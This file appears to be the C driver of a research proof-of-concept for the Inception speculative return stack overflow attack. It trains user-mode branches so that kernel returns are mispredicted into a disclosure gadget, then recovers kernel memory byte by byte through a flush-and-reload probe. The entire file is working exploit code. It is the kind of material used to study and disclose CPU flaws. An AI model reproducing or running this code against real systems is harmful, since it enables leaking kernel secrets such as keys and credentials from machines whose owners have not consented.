/*
 * Inception, speculative return stack overflow (Trujillo et al., 2023): the processor predicts a
 * branch before it has decoded what is there. User mode trains an instruction of the kernel to be a
 * jump, which it is not, to a place that is trained to be a call to itself, which it is not either.
 * Until that is noticed, each such call has pushed the address behind the place on the stack of
 * return predictions; the kernel's next returns are predicted to go there. Behind the place is code
 * that reads where a register points.
 */
#include "attack.h"

#include "gadget.h"
#include "receive.h"
#include "secret.h"
#include "train.h"

static const uint8_t *array, *branches[MOST_ADDRESSES], *phantom_call;
static uint64_t disclosure;

/* The place whose end is the begin of what is to be disclosed. */
static void choose(uint64_t address)
{
	disclosure = address;
	phantom_call = place_branch(address - 1, INDIRECT_CALL);
}

static int read_byte(uint64_t address)
{
	const uint8_t *probe = array + SHARED_PROBE;
	uint64_t place = disclosure - BRANCH_BYTES;

	begin_receiving(address);
	train(phantom_call, place);
	for (int i = 0; i < options.branches.count; i++)
		train(branches[i], place);
	flush_probe(probe);
	end_receiving(address, disclosure, kernel_probe(options.known));
	return reload_probe(probe);
}

static int sample(int index)
{
	use_secret(index);
	return read_byte(options.address + index);
}

int main(int argc, char **argv)
{
	int times;

	parse_options(argc, argv);
	if (!options.address || !options.branches.count || !options.disclosures.count)
		errx(2, "expected --address, --branch and --disclosure");
	open_secret();
	array = map_gadget(options.gadget);
	catch_faults();
	calibrate();
	prepare_eviction();
	prepare_receiving();
	for (int i = 0; i < options.branches.count; i++)
		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
	times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
	recover(sample, patience_if(times), 1);
	return 0;
}
